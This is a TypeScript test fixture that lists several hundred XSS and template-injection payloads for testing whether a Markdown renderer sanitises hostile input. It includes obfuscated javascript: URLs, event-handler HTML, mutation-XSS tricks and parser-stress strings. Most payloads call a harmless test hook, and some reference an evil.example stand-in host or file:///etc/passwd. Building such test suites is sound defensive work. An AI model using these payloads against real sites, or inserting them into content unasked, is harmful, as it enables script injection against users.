/**
 * Hostile Markdown, written the way a page author could type or paste it, for the
 * renderer's unit test and the browser test. Every payload tries to call `__xss()`
 * (which the browser harness counts) or `alert()` (whose dialog it counts).
 * Written for Guildhall; not copied from a published list.
 */

const call = '__xss()';
const htmlDataUrl = 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==';
const svgDataUrl = 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX194c3MoKSIvPg==';

/** Ways of spelling a dangerous URL that a browser might still run. */
const hostileUrls: readonly string[] = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `JAVASCRIPT:alert(1)`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;&#x61;vascript:${call}`,
  `&#0000106&#0000097vascript:${call}`,
  `javascript&colon;${call}`,
  `java&Tab;script:${call}`,
  `%6Aavascript:${call}`,
  `  javascript:${call}`,
  `\u0000javascript:${call}`,
  `\u0001javascript:${call}`,
  `ja\u200bvascript:${call}`,
  `javascript://%0a${call}`,
  `vbscript:msgbox(1)`,
  htmlDataUrl,
  `file:///etc/passwd`,
];

/** The Markdown forms a URL can arrive in. */
const linkForms: readonly ((url: string) => string)[] = [
  (url) => `[Read the policy](${url})`,
  (url) => `[Read the policy](<${url}>)`,
  (url) => `Read [the policy][policy].\n\n[policy]: ${url}`,
  (url) => `![Council logo](${url})`,
  (url) => `<${url}>`,
  (url) => `[![Council logo](/images/logo.png)](${url})`,
];

const urlMatrix = hostileUrls.flatMap((url) => linkForms.map((form) => form(url)));

/** Raw HTML, which markdown-it must show as text. */
const rawHtml: readonly string[] = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script\n>${call}</script\n>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="alert(1)">`,
  `<img src=x onerror=&#95;&#95;xss()>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img srcset=",,,,x onerror=${call}">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call}>`,
  `<svg><a xlink:href="javascript:${call}"><text x="20" y="20">Click here</text></a></svg>`,
  `<svg><use href="${svgDataUrl}#x" /></svg>`,
  `<math href="javascript:${call}">Click here</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<html onmouseover=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<input type=image src=x onerror=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<span contenteditable onfocus=${call} autofocus>Edit me</span>`,
  `<a href="#" onfocus=${call} autofocus>Focus me</a>`,
  `<p onmouseover=${call}>Hover over me</p>`,
  `<div onpointerenter=${call}>Hover over me</div>`,
  `<marquee onstart=${call}>News</marquee>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<x-card onclick=${call}>Click me</x-card>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe src="${htmlDataUrl}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="${htmlDataUrl}"></object>`,
  `<embed src="javascript:${call}">`,
  `<embed src="${svgDataUrl}">`,
  `<style>@import 'javascript:${call}';</style>`,
  `<style>body { background: url("javascript:${call}") }</style>`,
  `<div style="background:url(javascript:${call})">Styled</div>`,
  `<link rel=stylesheet href=javascript:${call}>`,
  `<base href="javascript:${call}//">`,
  `<base href="//evil.example/">\n\n[Home](/home)`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<meta charset="UTF-7">+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<form action="javascript:${call}"><button>Send</button></form>`,
  `<button formaction=javascript:${call}>Send</button>`,
  `<isindex action=javascript:${call} type=image>`,
  `<table background="javascript:${call}"><tr><td>Cell</td></tr></table>`,
  `<a href="javascript:${call}">Raw anchor</a>`,
  `<a href="&#106;avascript:${call}">Raw anchor</a>`,
  `<a id=__xss href=#>Clobber</a>`,
  `<template><script>${call}</script></template>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

/** Tags broken on purpose, comments, and entity tricks. */
const brokenHtml: readonly string[] = [
  `<img src=x onerror=${call}`,
  `<img """><script>${call}</script>">`,
  `<scr<script>ipt>${call}</script>`,
  `<<script>script>${call}<</script>/script>`,
  `</p><script>${call}</script><p>`,
  `<!--<img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<scr\u0000ipt>${call}</script>`,
  `<img src=x on\u0000error=${call}>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${call}&#x3E;`,
  `&LT;svg onload=${call}&GT;`,
  `\\<script>${call}\\</script>`,
  `<div>\n\n[Click here](javascript:${call})\n\n</div>`,
  `<pre>\n<script>${call}</script>\n</pre>`,
];

/** Payloads inside Markdown syntax: titles, alt text, headings, code, tables, lists, quotes. */
const markdownContexts: readonly string[] = [
  `[Guidance](/guidance "title\\" onmouseover=\\"${call}")`,
  `[Guidance](/guidance 'a" onmouseover="${call}')`,
  `[Guidance](/guidance (a" onmouseover="${call}))`,
  `![Logo" onerror="${call}](/images/logo.png)`,
  `![Logo](/images/logo.png" onerror="${call})`,
  `![Logo](/images/logo.png "x\\" onerror=\\"${call}")`,
  `[Guidance](/guidance onerror=${call})`,
  `[Guidance](https://example.com/"onmouseover="${call})`,
  `[Guidance](#" onfocus="${call}" autofocus=")`,
  `[Guidance](http://example.com/</a><script>${call}</script>)`,
  `[Email us](mailto:help@example.com?subject="><script>${call}</script>)`,
  `[Call us](tel:"onmouseover="${call})`,
  `[<img src=x onerror=${call}>](/guidance)`,
  `[Guidance](/guidance)<img src=x onerror=${call}>`,
  `**<img src=x onerror=${call}>**`,
  `_<svg onload=${call}>_`,
  `~~<script>${call}</script>~~`,
  `<https://example.com/"onmouseover="${call}>`,
  `See https://example.com/?q="><script>${call}</script> for details`,
  `Visit www.example.com/"onmouseover=${call}// today`,
  `Type javascript:${call} into nothing`,
  `Contact "><img src=x onerror=${call}>@example.com`,
  `[Elsewhere](//evil.example/phish)`,
  `[Elsewhere](/\\evil.example/phish)`,
  `[Elsewhere](</\t/evil.example/phish>)`,
  `[Elsewhere](https:&#47;&#47;evil.example)`,
  `![Chart](//evil.example/track.png)`,
  `![Chart](https://evil.example/track.png)`,
  `![Chart](/\\evil.example/track.png)`,
  `![Chart](${svgDataUrl})`,
  `[Elsewhere](\u202ejavascript:${call})`,
  `[Elsewhere](ｊａｖａｓｃｒｉｐｔ：${call})`,
  `[Elsewhere]( javascript:${call})`,
  `[Elsewhere](jav&#x0A;ascript:${call})`,
  `[Elsewhere](&#x6A&#x61&#x76&#x61script:${call})`,
  `[^1]: javascript:${call}\n\nA note[^1].`,
  `# <img src=x onerror=${call}>`,
  `## Budget {onclick=${call}}`,
  `# " onmouseover="${call}`,
  `# javascript:${call}`,
  `Setext heading <svg onload=${call}>\n===`,
  `\`<script>${call}</script>\``,
  `\`\`\`\n<script>${call}</script>\n\`\`\``,
  `\`\`\`html" onmouseover="${call}\n<b>code</b>\n\`\`\``,
  `    <script>${call}</script>`,
  `| Name | Link |\n| --- | --- |\n| <img src=x onerror=${call}> | [x](javascript:${call}) |`,
  `| Name | Logo |\n| :-: | --: |\n| ![y](javascript:${call}) | <svg onload=${call}> |`,
  `| a" onmouseover="${call} |\n| --- |\n| b |`,
  `- <img src=x onerror=${call}>\n  - [Nested](javascript:${call})`,
  `1. <details open ontoggle=${call}>\n2. Two`,
  `> <script>${call}</script>`,
  `> [Quoted](javascript:${call})\n> > ![Deeper](javascript:${call})`,
];

/** Callouts carrying payloads, odd names and nesting. */
const callouts: readonly string[] = [
  `:::warning\n<script>${call}</script>\n:::`,
  `:::warning\n[Report it](javascript:${call})\n:::`,
  `:::inset\n![Logo](javascript:${call})\n:::`,
  `:::warning onclick=${call}\nText\n:::`,
  `:::warning" onmouseover="${call}\nText\n:::`,
  `:::<img src=x onerror=${call}>\nText\n:::`,
  `:::script\n${call}\n:::`,
  `::::warning\n:::inset\n<svg onload=${call}>\n:::\n::::`,
  `:::::inset\n::::warning\n:::inset\n[Deep](javascript:${call})\n:::\n::::\n:::::`,
  `:::warning\n<img src=x onerror=${call}>`,
  `:::warning\n| a |\n| - |\n| <svg onload=${call}> |\n:::`,
  `:::inset\n# <img src=x onerror=${call}>\n:::`,
];

/** Template syntax: Nunjucks must never evaluate it. */
const templates: readonly string[] = [
  '{{ 7*7 }}',
  `{% raw %}{{ ${call} }}{% endraw %}`,
  `{{ range.constructor("return ${call}")() }}`,
  `{{constructor.constructor('${call}')()}}`,
  '${7*7} #{7*7} <%= 7*7 %>',
  '[{{ 7*7 }}](/guidance)',
  '# {% include "secrets.njk" %}',
];

/** Sizes and nesting that stress the parser. */
const stress: readonly string[] = [
  'A'.repeat(20_000) + `<img src=x onerror=${call}>`,
  '['.repeat(5_000) + `](javascript:${call})`,
  '*'.repeat(10_000) + `<script>${call}</script>`,
  `[x](${'('.repeat(2_000)}javascript:${call}${')'.repeat(2_000)})`,
  '> '.repeat(150) + `<svg onload=${call}>`,
  '- '.repeat(150) + `[x](javascript:${call})`,
  `| a |\n| - |\n${`| <img src=x onerror=${call}> |\n`.repeat(300)}`,
];

export const xssPayloads: readonly string[] = [
  ...urlMatrix,
  ...rawHtml,
  ...brokenHtml,
  ...markdownContexts,
  ...callouts,
  ...templates,
  ...stress,
];
